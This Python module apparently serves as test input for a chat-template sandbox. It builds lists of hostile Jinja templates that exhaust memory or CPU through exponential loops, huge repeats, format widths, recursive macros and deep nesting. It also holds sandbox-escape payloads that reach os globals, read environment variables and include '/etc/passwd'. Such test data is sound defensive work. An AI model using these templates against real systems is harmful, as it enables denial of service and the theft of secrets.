"""Chat templates that would take all of a machine's time or memory, by the means that they use."""

# What it takes to hold a text, a list or a name between two turns of a loop.
_KEPT = "{{% set s = namespace(x={start}) %}}{{% for i in range({turns}) %}}"
_KEPT += "{{% set s.x = {step} %}}{{% endfor %}}{{{{ s.x | length }}}}"


def growing(start: str, step: str, turns: int = 99_999) -> str:
    """A value that every turn of a loop makes larger."""
    return _KEPT.format(start=start, step=step, turns=turns)


def nested(depth: int, most: int, body: str = "") -> str:
    """Loops within loops."""
    opened = "".join(f"{{% for {'abcdefgh'[i]} in range({most}) %}}" for i in range(depth))
    return opened + body + "{% endfor %}" * depth


def many(call: str, times: int = 99_999) -> str:
    """An expression's value many times, without writing it."""
    return f"{{% for i in range({times}) %}}{{% set x = {call} %}}{{% endfor %}}"


BIG = "(10 ** 12)"
LONG = "('a' * 1000000)"
ITEMS = "(range(100000) | list)"

HOSTILE: dict[str, list[str]] = {
    "doubling": [
        growing("'x'", "s.x + s.x"),
        growing("'x'", "s.x ~ s.x"),
        growing("'x'", "'a' + s.x + s.x + 'b'"),
        growing("'x'", "s.x ~ 1 ~ s.x ~ none"),
        growing("[1]", "s.x + s.x"),
        growing("(1, 2)", "s.x + s.x"),
        growing("'x'", "s.x * 2"),
        growing("[0]", "s.x * 7"),
        growing("'é'", "s.x ~ '\U0001f600' ~ s.x"),
    ],
    "sizes": [
        "{{ 'x' * " + BIG + " }}",
        "{{ [0] * " + BIG + " }}",
        "{{ (0,) * " + BIG + " }}",
        "{{ " + BIG + " * 'x' }}",
        "{{ 'x' * 2147483647 }}",
        "{% set x = ('x' * 40000000) ~ ('y' * 400000000) %}",
        "{{ ('x' * 50000) * 50000 }}",
        "{% set a = 'x' * 90000 %}{% set b = a * 90000 %}{{ b | length }}",
    ],
    "numbers": [
        "{{ 9 ** (9 ** 9) }}",
        "{{ (2 ** 99999) ** 99999 }}",
        "{{ 2 ** (10 ** 9) % 7 }}",
        "{{ (10 ** (10 ** 8)) | string }}",
        growing("3", "s.x * s.x") + "{{ s.x }}",
        growing("3", "s.x ** s.x") + "{{ s.x }}",
        "{{ ('9' * 90000000) | int }}",
        many("7 ** (400000 + i)"),
        "{{ (7 ** 4000000) // (3 ** 3000000) }}",
    ],
    "widths": [
        "{{ '%999999999d' % 1 }}",
        "{{ '%*d' % (999999999, 1) }}",
        "{{ '%.999999999f' % 1 }}",
        "{{ '%999999999s' % 'x' }}",
        "{{ '{:999999999}'.format(1) }}",
        "{{ '{:{}}'.format(1, 999999999) }}",
        "{{ '{0:>{1}}'.format('x', 999999999) }}",
        "{{ '{:.999999999f}'.format(1.5) }}",
        "{{ '{x:999999999}'.format_map({'x': 1}) }}",
        "{{ '%999999999d' | format(1) }}",
        "{{ ('%' ~ 999999999 ~ 'd') | format(1) }}",
        many("'%90000000d' % i"),
    ],
    "methods": [
        "{{ 'x'.center(" + BIG + ") }}",
        "{{ 'x'.ljust(" + BIG + ") }}",
        "{{ 'x'.rjust(999999999) }}",
        "{{ 'x'.zfill(999999999) }}",
        "{{ '\\t'.expandtabs(999999999) }}",
        growing("'ab'", "s.x.replace('', s.x)"),
        growing("'ab'", "s.x.join(s.x)"),
        growing("'ab'", "s.x.join([s.x, s.x])"),
        growing("'x'", "s.x.center(s.x | length * 2)"),
        f"{{{{ {LONG}.replace('a', {LONG}) }}}}",
        f"{{{{ {LONG}.join({ITEMS} | map('string')) }}}}",
        f"{{{{ {LONG}.translate({{97: {LONG}}}) }}}}",
        many(f"{LONG}.split('a')"),
        many("('ab' * 500000).partition('ba' * 250000 ~ 'c')"),
    ],
    "filters": [
        growing("'ab'", "s.x | replace('', s.x)"),
        growing("'ab'", "s.x | join(s.x)"),
        growing("'a\n'", "(s.x ~ s.x) | indent(999)"),
        growing("'a'", "s.x | center(s.x | length * 3)"),
        growing("'&'", "s.x | escape | string"),
        growing("'a'", "s.x | urlencode ~ '%' ~ s.x"),
        growing("'a'", "(s.x | list | pprint)"),
        growing("['a']", "s.x | tojson | list"),
        growing("'a'", "s.x | tojson(indent=9999) | tojson"),
        "{{ 'x' | center(" + BIG + ") }}",
        "{{ 'a\nb' | indent(999999999) }}",
        "{{ ('a\n' * 99999) | indent(99999) }}",
        "{{ 'x' | indent('y' * 99999999, first=true) }}",
        f"{{{{ {LONG} | replace('a', {LONG}) }}}}",
        f"{{{{ {ITEMS} | join({LONG}) }}}}",
        f"{{{{ {LONG} | list | pprint | length }}}}",
        "{{ [1] | batch(999999999, 'x') | list }}",
        "{{ [1] | slice(999999999, 'x') | list }}",
        "{{ range(99999) | batch(1) | map('list') | map('batch', 99999, 0) | map('list') | list }}",
        f"{{{{ {ITEMS} | map('center', 99999) | list }}}}",
        f"{{{{ {ITEMS} | tojson(indent=99999) | length }}}}",
        f"{{{{ [{ITEMS}] | tojson(separators=({LONG}, '')) | length }}}}",
        many("('a' * (1000000 + i)) | wordwrap(1)"),
        many("(range(100000) | map('string') | sort | list)"),
        many("(range(100000) | list | sort(reverse=true) | unique | list)"),
        many("(range(100000) | groupby('real') | list)"),
        many("('<' * (100000 + i)) | striptags"),
        many("('<!--' * (100000 + i)) | striptags"),
        many("('a@' * (100000 + i)) | urlize"),
        many("('http://' * (100000 + i)) | urlize"),
        many("('(' * (100000 + i) ~ 'www.x.org' ~ ')' * 100000) | urlize"),
        many("('a ' * (500000 + i)) | wordcount"),
        many("('a ' * (500000 + i)) | title"),
        many("range(100000) | random"),
        many("range(100000) | sum"),
        growing("[]", "[s.x, [i]] | sum(start=[])"),
    ],
    "helpers": [
        "{{ lipsum(n=100000) }}",
        "{{ lipsum(n=1, min=99999999, max=999999999) }}",
        many("lipsum(n=100)"),
        many("dict(messages=range(100000) | list)"),
        "{% set c = cycler(*range(100000)) %}" + many("c.next()", 99_999) * 40,
        "{% set j = joiner('x' * 99999) %}" + nested(1, 99_999, "{{ j() }}"),
        "{{ range(10 ** 9) | list }}",
        many("strftime_now('%c' * 20000)"),
    ],
    "loops": [
        nested(2, 99_999),
        nested(3, 99_999, "{% set x = a %}"),
        nested(8, 99),
        nested(2, 99_999, "{{ '' }}"),
        nested(2, 99_999, "{% if a == b %}{% continue %}{% endif %}"),
        nested(1, 99_999, "{{ 'x' * 90000 }}"),
        nested(2, 99_999, "{{ loop.index }}"),
        "{% for a in 'x' * 99999 recursive %}{{ loop('x' * 99999) }}{% endfor %}",
        "{% for a in [[1]] recursive %}{{ loop([a, a]) }}{% endfor %}",
        "{% for a in range(99999) if range(99999) | sum == 1 %}{% endfor %}",
        "{% for a in range(99999) %}{% for b in messages * 99999 %}{% endfor %}{% endfor %}",
    ],
    "macros": [
        "{% macro m(n) %}{{ m(n) }}{{ m(n) }}{% endmacro %}{{ m(1) }}",
        "{% macro m(n) %}{% if n %}{{ m(n - 1) }}{{ m(n - 1) }}{% endif %}{% endmacro %}"
        "{{ m(90) }}",
        "{% macro m(n) %}{% for i in range(9) %}{% if n %}{{ m(n - 1) }}{% endif %}{% endfor %}"
        "{% endmacro %}{{ m(50) }}",
        "{% macro m(n) %}{{ caller(n) }}{% endmacro %}"
        "{% macro k(n) %}{% call(x) m(n) %}{{ k(x) }}{{ k(x) }}{% endcall %}{% endmacro %}"
        "{{ k(1) }}",
        "{% macro m(n) %}x{% if n %}{% set y = m(n - 1) %}{{ y }}{{ y }}{% endif %}{% endmacro %}"
        "{{ m(60) }}",
        "{% macro m(x) %}{{ x }}{{ x }}{% endmacro %}" + growing("'x'", "m(s.x)"),
        "{% macro a(n) %}{{ b(n) }}{% endmacro %}{% macro b(n) %}{{ a(n) }}{% endmacro %}"
        "{{ a(1) }}",
        "{% macro m() %}{{ varargs | length }}{% endmacro %}" + many("m(*range(100000))"),
    ],
    "nesting": [
        growing("[]", "[s.x, s.x]") + "{{ s.x }}",
        growing("[1]", "[s.x, s.x]", 40) + "{{ s.x | string | length }}",
        growing("[1]", "[s.x, s.x]", 40) + "{{ s.x | tojson | length }}",
        growing("{'a': 1}", "{'a': s.x, 'b': s.x}", 40) + "{{ s.x | pprint }}",
        growing("{'a': 1}", "dict(a=s.x, b=s.x)", 40) + "{{ s.x }}",
        growing("[1]", "[s.x, s.x]", 40) + "{{ s.x == (s.x | tojson) or s.x | string }}",
        growing("[1]", "s.x | map('list') | list", 2),
        "{{ " + "[" * 20_000 + "]" * 20_000 + " }}",
        "{{ " + "(" * 20_000 + "1" + ")" * 20_000 + " }}",
        "{{ " + "-" * 100_000 + "1 }}",
        "{{ 1" + " + 1" * 50_000 + " }}",
        "{% if x %}" * 5_000 + "{% endif %}" * 5_000,
        "{% for a in [1] %}" * 500 + "{% endfor %}" * 500,
        "{{ x" + "[0]" * 60_000 + " }}",
        "{{ x" + " | list" * 30_000 + " }}",
    ],
    "names": [
        growing("'x'", "s.x ~ (i | string * 9999)"),
        "{% set s = namespace() %}"
        + nested(2, 99_999, "{% set s.x = (s.x | default('')) ~ 'x' * 999 %}"),
        "{% filter replace('x', 'x' * 99999) %}{{ 'x' * 99999 }}{% endfilter %}",
        "{% set x %}{% for i in range(99999) %}{{ 'x' * 9999 }}{% endfor %}{% endset %}{{ x }}",
        "{% filter upper %}" + nested(2, 99_999, "ab") + "{% endfilter %}",
        "{% generation %}" + nested(2, 99_999, "ab") + "{% endgeneration %}",
    ],
    "the sandbox": [
        "{{ ''.__class__.__mro__[1].__subclasses__() }}",
        "{{ 'ab'.__init__.__globals__ }}",
        "{{ messages.append(1) }}",
        "{{ messages.__class__.__mro__ }}",
        "{{ cycler.__init__.__globals__.os }}",
        "{{ lipsum.__globals__['os'].environ }}",
        "{{ raise_exception.__globals__.x }}",
        "{{ strftime_now.__code__.co_code }}",
        "{{ self.__init__.__globals__ }}",
        "{% include '/etc/passwd' %}",
        "{% import 'os' as os %}",
        "{{ '{0.__class__.__mro__}'.format(messages) }}",
        "{{ ('{0.__globals__}' | format)(lipsum) }}",
        "{{ messages.clear() }}",
        "{{ (messages | attr('__class__')).mro() }}",
    ],
}
